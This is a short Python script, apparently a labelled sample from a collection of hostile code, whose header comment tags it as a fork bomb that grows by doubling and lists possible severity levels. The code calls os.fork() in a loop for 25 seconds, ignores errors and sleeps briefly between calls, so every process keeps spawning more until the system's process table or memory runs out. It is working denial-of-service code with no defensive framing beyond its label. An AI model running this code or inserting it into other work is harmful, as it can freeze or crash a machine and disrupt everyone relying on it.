# class: fork bomb; possible: low medium high; style: a tree that grows by doubling
import os
import time

end = time.time() + 25
while time.time() < end:
    try:
        os.fork()
    except OSError:
        pass
    time.sleep(0.4)
